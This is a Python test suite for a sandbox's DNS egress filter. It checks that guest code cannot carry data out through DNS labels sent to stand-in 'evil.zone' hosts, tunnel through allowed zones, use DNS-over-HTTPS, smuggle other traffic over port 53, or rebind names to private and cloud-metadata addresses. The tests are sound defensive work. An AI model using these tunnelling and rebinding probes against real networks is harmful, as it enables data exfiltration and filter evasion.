# SPDX-License-Identifier: Apache-2.0
"""The DNS rows of the attack table: what is tried, what the guest is told at once, and that nothing came of it."""
import ipaddress

import lab
import zones
from attack import Canary, Site, events, refused, tell
from harness import test

PROMPT = 2.0  # seconds, on a busy machine


def rules(*names):
    return [x for n in names for x in ("--allow", n)]


def blocked(r, *words):
    return r["rcode"] == "NXDOMAIN" and not r["addresses"] and r["ede"] == 15 and r["seconds"] < PROMPT and all(
        w in r["text"] for w in words)


# ---- what may not leave at all ------------------------------------------------------------------------

@test(smoke=True)
def test_labels_carry_nothing_out_under_default_deny(t):
    s = Site(t)
    got, r = s.run("""
        names = ["%032x.%s" % (i, evil("x")) for i in range(8)] + [evil("q" * 63), evil("a.b.c.d.e")]
        out([ask(n, kind, tcp=tcp) for n in names for kind in ("A", "TXT", "NULL") for tcp in (False, True)])
    """, *rules(s.good("one")))
    assert all(blocked(x, "default") for x in got), got
    assert s.queries() == [], s.queries()
    assert "default" in r.err and "dns " in r.err, r


@test(smoke=True)
def test_a_tunnel_through_an_allowed_zone_trips_the_budget(t):
    s = Site(t)
    with open(t.dir + "/budget.yaml", "w") as f:
        f.write("dns: {budget: {names: 30}}\n")
    got, r = s.run("""
        out([[ask("%04x.%s" % (i, evil("w")), "TXT")["rcode"] for i in range(60)], ask(evil("last"), "TXT"), ask(one)])
    """, "-c", t.dir + "/budget.yaml", *rules("*.t%d.evil.zone" % s.n, "*." + s.zone))
    words, last, other = got
    assert words.count("NOERROR") == 30 and words[30:] == ["REFUSED"] * 30, words
    assert last["rcode"] == "REFUSED" and last["ede"] == 17 and "dns-budget" in last["text"], last
    assert other["addresses"] == [s.a4], other  # another registered domain has a budget of its own
    assert len(s.queries()) == 31 and "dns-budget" in r.err, (len(s.queries()), r)


@test(smoke=True)
def test_text_and_null_come_down_only_where_the_name_is_allowed(t):
    s = Site(t)
    code = "out([ask(evil('txt'), 'TXT'), ask(evil('null'), 'NULL')])"
    got = s.py(code, *rules("*.t%d.evil.zone" % s.n))
    assert [x["answers"] for x in got] == [[[16, "ff" + "64" * 255]], [[10, bytes(range(256)).hex()]]], got
    n = len(s.queries())
    got = s.py(code, "--deny", "*.t%d.evil.zone" % s.n, "--net", "public")
    assert all(blocked(x, "rule") for x in got) and len(s.queries()) == n, got


@test(smoke=True)
def test_a_resolver_of_the_guests_choice_is_judged_and_filtered_the_same(t):
    s = Site(t)
    code = """
        r = {}
        for tcp in (False, True):
            for server in (A4, A6):
                for label in ("fine", "a-7f000001", "cname-x-evil"):
                    r["%s %s %s" % (label, server, tcp)] = ask(good(label), server=server, tcp=tcp)
                r["denied %s %s" % (server, tcp)] = ask(evil("x"), server=server, tcp=tcp)
        out(r)
    """
    # Its address is not allowed: it gets nothing.
    got, r = s.run(code, *rules("*." + s.zone))
    assert all(x["rcode"] in ("NXDOMAIN", "REFUSED") or "Refused" in x["rcode"] for x in got.values()), got
    assert all(x["seconds"] < PROMPT for x in got.values()) and s.queries() == [], (got, s.queries())
    # It is: answers are filtered as any other, and denied names never reach it.
    got = s.py(code, "--deny", "*.t%d.evil.zone" % s.n, *rules("*." + s.zone, s.a4 + ":udp:53", s.a4 + ":tcp:53",
               "[%s]:udp:53" % s.a6, "[%s]:tcp:53" % s.a6))
    for what, x in got.items():
        if what.startswith("fine"):
            assert x["addresses"] == [s.a4], (what, x)
        else:
            assert blocked(x, "rebind" if what.startswith("a-") else "rule"), (what, x)
    asked = s.queries()
    assert asked and not [q for q in asked if q[0].endswith("evil.zone")], asked
    assert {q[3] for q in asked} == {s.a4, s.a6} and {q[2] for q in asked} >= {"udp"}, asked


@test(smoke=True)
def test_other_ways_to_ask_are_refused_at_once(t):
    s = Site(t)
    got, r = s.run("""
        from guest import udp_ask, attempt
        r = {}
        for a in (A4, A6):
            r["dot " + a] = attempt(a, 853, 5)
            for port in (853, 5353, 5355, 137):
                u = udp_ask(a, port, query(one), timeout=3)
                r["%d %s" % (port, a)] = [str(u[0]), u[1]]
        out(r)
    """, "--net", "public")
    assert refused(got.values()), got
    assert {v[0] for v in got.values()} == {"ECONNREFUSED"}, got
    assert s.seen() == [] and "dot-without-tls" in r.err and "alt-dns" in r.err, (s.seen(), r)


@test(smoke=True)
def test_dns_over_https_is_a_name_like_any_other(t):
    s = Site(t)
    # By a name that is not allowed, and by address without a name or with a forged one.
    got, r = s.run("""
        from guest import attempt
        first = [ask(two), attempt(A4, 443, 5)]
        ask(one)
        out(first + [offer(A4, 443, hello()), offer(A4, 443, hello(two)), offer(A4, 443, hello("dns.google"))])
    """, *rules(s.good("one")))
    assert blocked(got[0]) and got[1][0] == "ECONNREFUSED" and got[1][1] < PROMPT, got
    assert [x[0] for x in got[2:]] == ["denied"] * 3 and s.got_nothing(), (got, s.seen())
    # Denied in one word where all else is allowed.
    got = s.py("""
        out([ask(n) for n in ("dns.google", "cloudflare-dns.com", "dns.quad9.net")] + [offer(A4, 443, hello("dns.google"))])
    """, "--deny", "doh", "--net", "public")
    assert all(blocked(x, "rule") for x in got[:3]) and got[3][0] == "denied", got
    assert s.got_nothing()


@test(smoke=True)
def test_what_is_no_dns_does_not_pass_port_53(t):
    s = Site(t)
    marker = "leak%dmarker" % t.number
    got = s.py("""
        m = %r
        junk = [m * 10, b"SSH-2.0-" + m + b"\\r\\n", b"\\x16\\x03\\x01" + m * 8, struct.pack("!HHHHHH", 1, 0x8180, 1, 1, 0, 0) + qname(m),
                struct.pack("!HHHHHH", 1, 0x2900, 1, 0, 0, 0) + qname(m) + b"\\0\\1\\0\\1"]
        r = []
        for data in junk:
            for server in (A4, resolver()):
                for tcp in (False, True):
                    x = exchange(data, server, tcp, timeout=0.3)
                    r.append(read(x)["rcode"])
        s = socket.create_connection((A4, 53), 5)
        s.sendall(m * 4000)
        s.settimeout(3)
        try:
            r.append(read(s.recv(100)[2:])["rcode"])
        except OSError as e:
            r.append(type(e).__name__)
        out(r + [ask(one, server=A4)["addresses"]])
    """ % marker.encode(), "--net", "public")
    assert got.pop() == [s.a4] and set(got) <= {"silence", "FORMERR", "NOTIMP", "ConnectionResetError"}, got
    junk = "".join(tell(lab.ORIGIN4, 7098, "junk"))
    assert marker not in junk and not [q for q in s.queries() if marker in q[0]], junk
    assert all(r["port"] != 53 for r in s.seen())


@test(smoke=True)
def test_questions_that_are_broken_are_malformed(t):
    s = Site(t)
    got = s.py("""
        head = lambda n: struct.pack("!HHHHHH", 5, 0x100, n, 0, 0, 0)
        tail = b"\\0\\1\\0\\1"
        label = lambda n: bytes([n]) + b"a" * n
        bad = {
            "loop": head(1) + b"\\xc0\\x0c" + tail,
            "two loops": head(1) + b"\\xc0\\x0e\\xc0\\x0c" + tail,
            "forward": head(1) + b"\\xc0\\x20" + tail + bytes(40),
            "long name": head(1) + label(63) * 4 + b"\\0" + tail,
            "long label": head(1) + b"\\x40" + b"a" * 64 + b"\\0" + tail,
            "extended label": head(1) + b"\\x81ab\\0" + tail,
            "no question": head(0),
            "two questions": head(2) + (qname(one) + tail) * 2,
            "cut": head(1) + qname(one) + b"\\0",
            "many": head(65535) + qname(one) + tail,
        }
        out({k + " tcp" * tcp: read(exchange(v, tcp=tcp, timeout=2))["rcode"] for k, v in bad.items() for tcp in (False, True)})
    """, "--net", "public")
    assert set(got.values()) == {"FORMERR"}, got
    assert s.queries() == [], s.queries()


# ---- what comes back ------------------------------------------------------------------------------------

@test(smoke=True)
def test_an_alias_of_a_denied_name_is_denied_along_the_chain(t):
    s = Site(t)
    got, r = s.run("""
        out([ask(good("cname-hidden-evil"), k, tcp=tcp) for k in ("A", "AAAA", "TXT") for tcp in (False, True)] + [ask(good("cname-fine-good"))])
    """, "--deny", "*.t%d.evil.zone" % s.n, "--net", "public")
    assert got.pop()["addresses"] == [s.a4], got
    assert all(blocked(x, "deny@*.t%d.evil.zone" % s.n) for x in got), got
    assert "hidden.t%d.evil.zone" % s.n in r.err, r


def embeddings(address):
    x = ipaddress.ip_address(address).packed
    return [bytes(10) + b"\xff\xff" + x, bytes(12) + x, bytes.fromhex("0064ff9b") + bytes(8) + x, b"\x20\x02" + x + bytes(10),
            b"\x20\x02" + x + bytes(9) + b"\1", bytes.fromhex("0064ff9b0001") + bytes(6) + x]


BAD4 = ["0.0.0.0", "0.1.2.3", "10.0.0.1", "100.64.0.1", "100.100.100.200", "127.0.0.1", "127.255.0.1", "169.254.169.254", "172.16.0.1", "192.0.0.192",
        "192.0.2.1", "192.88.99.1", "192.168.1.1", "198.18.0.1", "198.51.100.10", "203.0.113.1", "224.0.0.1", "240.0.0.1", "255.255.255.255", lab.HOST4]
BAD6 = ["::", "::1", "fc00::1", "fd00:ec2::254", "fe80::1", "fec0::1", "ff02::1", "100::1", "64:ff9b:1::1", "2001:db8::1", "3fff::1", lab.HOST6]


@test(smoke=True)
def test_no_name_has_an_address_that_names_may_not_have(t):
    """nip.io-like names, every embedding of IPv4 in IPv6, and hints: each the same."""
    s = Site(t)
    asked = [("a-" + ipaddress.ip_address(a).packed.hex(), "A") for a in BAD4]
    sixes = [ipaddress.ip_address(a).packed for a in BAD6] + [e for a in ("127.0.0.1", "169.254.169.254", "10.0.0.1", lab.HOST4) for e in embeddings(a)]
    asked += [("aaaa-" + x.hex(), "AAAA") for x in sixes]
    for kind in ("HTTPS", "SVCB"):
        asked += [("hint-" + ipaddress.ip_address(a).packed.hex(), kind) for a in ("127.0.0.1", "10.0.0.1", "169.254.169.254", lab.HOST4)]
        asked += [("hint6-" + x.hex(), kind) for x in sixes[:3] + sixes[-6:-1]]
    code = "out([[label, kind, ask(evil(label), kind)] for label, kind in %r])" % (asked,)
    got, r = s.run(code, *rules("*.t%d.evil.zone" % s.n))
    bad = [x for x in got if not blocked(x[2], "rebind: ")]
    assert bad == [], bad
    assert len(s.queries()) == len(asked) and "rebind" in r.err, (len(s.queries()), r)
    # A rule for public addresses names those of no use as well (of documentation, ...), and no others.
    passed = [x[2]["addresses"] for x in s.py(code, "--net", "public") if not blocked(x[2], "rebind: ")]
    useless = ("192.0.2.", "192.88.99.", "198.18.", "198.51.100.", "203.0.113.", "240.", "255.", "fec0::", "100::", "64:ff9b:1::", "2001:db8::", "3fff::")
    assert all(len(x) == 1 and x[0].startswith(useless) for x in passed) and lab.HOST6 not in str(passed), passed
    # Addresses that they may have pass, whatever their form.
    ok = s.py("out([ask(evil(x), k)['rcode'] for x, k in (('a-08080808', 'A'), ('aaaa-site', 'AAAA'), ('hint-site', 'HTTPS'), ('hint6-' + '26%030x' % 1, 'SVCB'))])",
              "--net", "public")
    assert ok == ["NOERROR"] * 4, ok


@test(smoke=True)
def test_one_bad_address_among_good_ones_turns_the_whole_answer(t):
    s = Site(t)
    got = s.py("""
        r = [ask(evil(x), tcp=tcp) for x in ("a-site-7f000001", "a-7f000001-site", "a-site-08080808-0a000001") for tcp in (False, True)]
        out(r + [ask(evil("aaaa-site-%032x" % 1), "AAAA")])
    """, "--net", "public")
    assert all(blocked(x, "rebind: ") for x in got), got


@test(smoke=True)
def test_public_first_then_private_for_no_time_is_dialled_as_checked(t):
    s, canary = Site(t), Canary(t)
    name = "turn-site-7f000001-%s" % ipaddress.ip_address(lab.HOST4).packed.hex()
    got, r = s.run("""
        from guest import attempt, default_gateway, HOST4
        name, r = evil(%r), []
        for _ in range(3):
            try:
                a = socket.getaddrinfo(name, %d, socket.AF_INET)[0][4][0]
            except OSError as e:
                a = type(e).__name__
            r.append(a)
        s = socket.create_connection((A4, 7001), 5)
        r.append(s.recv(3).decode())
        r += [attempt(a, %d, 5)[0] for a in (HOST4, default_gateway(4))]
        r.append(ask(name)["addresses"])
        out(r)
    """.replace("from guest import attempt", "from guest import attempt, default_gateway, HOST4") % (name, canary.port, canary.port), *rules(s.evil(name)))
    assert got[0] == s.a4 and got[1:3] == ["gaierror", "gaierror"], got
    assert got[3] == "220" and got[4:6] == ["ECONNREFUSED"] * 2, got
    assert canary.came == [] and "rebind" in r.err, (canary.came, r)


@test(smoke=True)
def test_hidden_keys_are_taken_out_and_their_outer_name_is_known_from_then_on(t):
    s = Site(t)
    got, r = s.run("""
        outer = "outer.t%d.evil.zone" % N
        r = [ask(evil("ech"), "HTTPS")]
        ask(outer)
        r.append(offer(A4, 443, hello(outer, after=GREASE_ECH)))
        r.append(offer(A4, 443, hello(outer)))
        ask(evil("plain"))
        r.append(offer(A4, 443, hello(evil("plain"), after=GREASE_ECH)))
        out(r)
    """, *rules("*.t%d.evil.zone" % s.n))
    answer = got[0]["answers"][0]
    assert answer[0] == 65 and "0004" in answer[1] and "fe0d" not in answer[1] and b"outer".hex() not in answer[1], got
    assert [x[0] for x in got[1:]] == ["denied", "server", "server"] and "ech" in r.err, (got, r)
    # Where it is allowed, they stay and the outer name is judged.
    got = s.py("out([ask(evil('ech'), 'HTTPS')])", "--allow-ech", *rules("*.t%d.evil.zone" % s.n))
    assert "fe0d" in got[0]["answers"][0][1], got


@test(smoke=True)
def test_forged_answers_are_ignored(t):
    """The name server forges; weir asks it directly, because a resolver in between would hide that."""
    s = Site(t)
    got = s.py("""
        out([[how, ask(evil("forged-" + how))] for how in ("id", "case", "port", "name")])
    """, "--dns-upstream", lab.ORIGIN4, "--net", "public")
    assert [x for x in got if x[1]["addresses"] != [s.a4]] == [], got


@test(smoke=True)
def test_answers_that_are_too_large_cut_broken_or_missing(t):
    s = Site(t)
    got = s.py("""
        out([ask(evil("big"), "TXT"), ask(evil("big"), "TXT", tcp=True), ask(evil("cut")), ask(evil("cut"), tcp=True), ask(evil("broken")), ask(evil("mute")),
             ask(evil("fine"))])
    """, "--dns-upstream", lab.ORIGIN4, "--dns-timeout", "900", "--net", "public")
    big, big_tcp, cut, cut_tcp, broken, mute, fine = got
    assert big["tc"] and len(big["answers"]) < 7 and len(big_tcp["answers"]) == 7, got
    assert cut["addresses"] == [s.a4] == cut_tcp["addresses"], got
    assert broken["rcode"] == "SERVFAIL" and not broken["answers"], broken
    assert mute["rcode"] == "SERVFAIL" and mute["ede"] in (22, 23) and mute["seconds"] < 3, mute
    assert fine["addresses"] == [s.a4], fine
    assert {q[2] for q in s.queries("cut")} == {"udp", "tcp"}, s.queries("cut")


@test(smoke=True)
def test_records_beside_the_answer_bind_nothing(t):
    s = Site(t)
    got, r = s.run("""
        r = [ask(evil("stray-two"))["addresses"]]
        r.append(offer(A4, 443, hello(two)))
        r.append(requests(A4, 80, b"GET / HTTP/1.1\\r\\nHost: " + two.encode() + b"\\r\\n\\r\\n")[0][9:12])
        ask(two)
        r.append(offer(A4, 443, hello(two)))
        out(r)
    """, *rules(s.good("two"), s.evil("stray-two")))
    assert got[0] == [s.a4] and got[1][0] == "denied" and got[2] == "403" and got[3][0] == "server", got
    assert "name-mismatch" in r.err, r


@test(smoke=True)
def test_a_resolver_that_is_gone_lets_nothing_through(t):
    s = Site(t)
    got = s.py("""
        from guest import attempt
        out([ask(one), ask(one, tcp=True), attempt(A4, 443, 5)])
    """, "--dns-upstream", lab.UNREACH4, "--dns-timeout", "800", *rules(s.good("one")))
    assert [x["rcode"] for x in got[:2]] == ["SERVFAIL"] * 2 and got[0]["ede"] in (22, 23), got
    assert all(x["seconds"] < 3 for x in got[:2]) and got[2][0] == "ECONNREFUSED", got
    assert s.seen() == []


@test(smoke=True)
def test_each_refusal_is_an_event_with_its_reason(t):
    s, log = Site(t), t.dir + "/events"
    s.py("ask(two); ask(evil('a-7f000001')); out(0)", "--events", log, "--deny", s.good("two"), "--net", "public")
    got = [(e["name"], e["reason"]) for e in events(log, "deny")]
    assert got == [(s.good("two"), "rule"), (s.evil("a-7f000001"), "rebind")], got
    assert zones.FORGED not in open(log).read()
